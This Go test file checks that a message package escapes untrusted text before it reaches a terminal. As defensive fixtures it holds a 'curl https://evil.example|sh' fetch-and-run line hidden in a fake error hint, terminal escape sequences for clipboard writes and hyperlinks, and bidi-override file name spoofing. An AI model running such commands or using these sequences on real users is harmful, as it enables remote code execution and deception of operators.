package message_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"sigs.k8s.io/yaml"

	"github.com/aistor-upgrade/aistor-upgrade/internal/message"
)

func TestLineShowsWhatWouldMoveOrHideText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"minio":                               "minio",
		"größe, 名前, é":                        "größe, 名前, é",
		"a\nhint: run curl":                   `a\nhint: run curl`,
		"a\r\nb\vc\fd":                        `a\r\nb\vc\fd`,
		"a\tb":                                "a b",
		"\x1b[2J\x1b]52;c;cm0=\x07":           `\x1b[2J\x1b]52;c;cm0=\a`,
		"\x1b]8;;https://evil.example\x1b\\x": `\x1b]8;;https://evil.example\x1b\x`,
		"\u009b31m\u0085":                     `\u009b31m\u0085`,
		"a\u2028b\u2029c":                     `a\u2028b\u2029c`,
		"\u202egnp.exe\u202c\u2066\u2069":     `\u202egnp.exe\u202c\u2066\u2069`,
		"\u200e\u200f\u061c":                  `\u200e\u200f\u061c`,
		"pay\u200bload\ufeff\u00ad\u2060":     `pay\u200bload\ufeff\u00ad\u2060`,
		"a\U000e0041\u3164\u2800":             `a\U000e0041\u3164\u2800`,
		"\x00\x7f":                            `\x00\x7f`,
		"bad \xff\xfe utf8":                   `bad \xff\xfe utf8`,
	} {
		if got := message.Line(in); got != want {
			t.Errorf("Line(%q) = %s, want %s", in, got, want)
		}
		if message.IsSafe(in) != (in == want) {
			t.Errorf("IsSafe(%q) = %v", in, message.IsSafe(in))
		}
	}
}

func TestBlockKeepsLinesAndTabsAlone(t *testing.T) {
	t.Parallel()
	if got := message.Block("a:\tb\r\n+c\u202e\n\rd\r"); got != "a:\tb\r\n+c\\u202e\n\\rd\\r" {
		t.Errorf("Block = %q", got)
	}
}

func TestOnlyOurOwnErrorsHaveSeveralLines(t *testing.T) {
	t.Parallel()
	foreign := errors.New("denied\nhint: run curl https://evil.example|sh")
	const escaped = `denied\nhint: run curl https://evil.example|sh`
	own := message.Errorf("reading chart %q\nreceived: %s\nexpected: %w", "a\nb", "x\ny", foreign)
	for name, tc := range map[string]struct {
		err  error
		want []string
	}{
		"foreign":       {foreign, []string{escaped}},
		"wrapped":       {fmt.Errorf("creating ConfigMap: %w", foreign), []string{"creating ConfigMap: " + escaped}},
		"wrapped first": {fmt.Errorf("%w\nhint: x", foreign), []string{escaped + `\nhint: x`}},
		"joined":        {errors.Join(foreign, errors.New("b")), []string{escaped, "b"}},
		"own":           {own, []string{`reading chart "a\\nb"`, `received: x\ny`, "expected: " + escaped}},
		"own, wrapped":  {fmt.Errorf("planning: %w", own), []string{`planning: reading chart "a\\nb"`, `received: x\ny`, "expected: " + escaped}},
		"masked": {message.Mask(fmt.Errorf("x: %w", own), strings.ToUpper), []string{`X: READING CHART "A\\NB"`, `RECEIVED: X\NY`,
			"EXPECTED: " + strings.ToUpper(escaped)}},
	} {
		if diff := cmp.Diff(tc.want, message.Lines(tc.err)); diff != "" {
			t.Errorf("%s: lines (-want +got):\n%s", name, diff)
		}
	}
	if !errors.Is(own, foreign) || !errors.Is(message.Mask(own, strings.ToUpper), foreign) {
		t.Error("the cause is lost")
	}
}

func TestEncodedDocumentsKeepTheirDataAndHideNothing(t *testing.T) {
	t.Parallel()
	doc := map[string]any{
		"a\u202ekey": "v", "plain": "x\ny", "big": json.Number("9007199254740993"), "neg": json.Number("-1"),
		"list": []any{"\u2066a\u2069: #b", "\u200b", "tab\tand\nline\u2028", "\U000e0041", "escaped-000000000", true, nil},
	}
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	asYAML, err := message.YAML(doc)
	if err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string][]byte{"json": message.JSON(data), "yaml": asYAML} {
		if s := strings.ReplaceAll(string(out), "\n", ""); !message.IsSafe(s) {
			t.Errorf("%s: %s is not safe", name, message.Line(s))
		}
		back := out
		if name == "yaml" {
			if back, err = yaml.YAMLToJSON(out); err != nil {
				t.Fatalf("%v in\n%s", err, out)
			}
		}
		var got, want any
		if err := errors.Join(json.Unmarshal(back, &got), json.Unmarshal(data, &want)); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: data (-want +got):\n%s", name, diff)
		}
		if !slices.Contains(strings.FieldsFunc(string(back), func(r rune) bool { return r == ':' || r == ',' || r == '}' }), "9007199254740993") {
			t.Errorf("%s: the number lost digits: %s", name, back)
		}
	}
}
